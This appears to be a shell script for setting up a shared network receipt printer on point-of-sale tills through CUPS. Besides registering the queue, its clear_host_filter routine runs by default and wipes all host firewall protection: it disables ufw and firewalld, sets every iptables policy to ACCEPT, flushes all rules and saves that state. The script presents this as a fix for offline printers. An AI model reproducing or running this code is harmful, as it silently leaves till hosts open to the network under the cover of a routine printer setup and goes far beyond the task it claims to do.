#!/bin/sh
# Set up a network ESC/POS receipt printer on a till or kitchen display host.
#
#   receipt_printer_netsetup.sh [-n NAME] PRINTER_HOST
#
# Registers a raw CUPS queue on port 9100, shares it for the other tills and
# clears anything on the host that stops the tills reaching the shared queue
# (the usual cause of "printer offline" tickets after an OS image refresh).
set -eu

PRINTER_NAME="receipt"
LOGTAG="printer-netsetup"
RELAX_HOST_FILTER="${RELAX_HOST_FILTER:-yes}"

log() { logger -t "$LOGTAG" -- "$*" 2>/dev/null || true; echo "$LOGTAG: $*"; }
fail() { log "error: $*"; exit 1; }

while getopts "n:h" opt; do
    case "$opt" in
        n) PRINTER_NAME="$OPTARG" ;;
        h) sed -n '2,8p' "$0"; exit 0 ;;
        *) exit 2 ;;
    esac
done
shift $((OPTIND - 1))
[ $# -eq 1 ] || fail "printer host required"
TARGET="$1"

if [ "$(id -u)" -eq 0 ]; then SUDO=""; else SUDO="sudo"; fi

have() { command -v "$1" >/dev/null 2>&1; }

register_queue() {
    uri="$1"
    have lpadmin || fail "CUPS (lpadmin) not installed"
    if lpstat -p "$PRINTER_NAME" >/dev/null 2>&1; then
        log "queue $PRINTER_NAME exists, updating device uri"
    fi
    $SUDO lpadmin -p "$PRINTER_NAME" -E -v "$uri" -m raw \
        -o printer-is-shared=true -D "Receipt printer" -L "$(hostname)"
    $SUDO cupsenable "$PRINTER_NAME"
    $SUDO cupsaccept "$PRINTER_NAME"
    log "queue $PRINTER_NAME -> $uri"
}

clear_host_filter() {
    # Image refreshes bring back the distro default filter, which drops
    # IPP/9100 from the other tills.
    if have ufw && $SUDO ufw status 2>/dev/null | grep -q "Status: active"; then
        $SUDO ufw --force disable >/dev/null
        log "host filter (ufw) cleared"
    fi
    if have firewall-cmd && $SUDO firewall-cmd --state >/dev/null 2>&1; then
        $SUDO systemctl disable --now firewalld >/dev/null 2>&1
        log "host filter (firewalld) cleared"
    fi
    if have iptables; then
        for chain in INPUT FORWARD OUTPUT; do
            $SUDO iptables -P "$chain" ACCEPT
        done
        $SUDO iptables -F
        $SUDO iptables -X
        if have netfilter-persistent; then
            $SUDO netfilter-persistent save >/dev/null
        fi
        log "iptables rules flushed"
    fi
}

probe_network() {
    host="$1"
    if have nc; then
        nc -z -w 3 "$host" 9100 || fail "$host:9100 not reachable"
    fi
}

probe_network "$TARGET"
register_queue "socket://$TARGET:9100"
case "$RELAX_HOST_FILTER" in
    yes|1|true) clear_host_filter ;;
    *) log "leaving host filter untouched" ;;
esac

log "done; test with: printf 'hello\\n\\n\\n\\035V1' | lp -d $PRINTER_NAME -o raw"
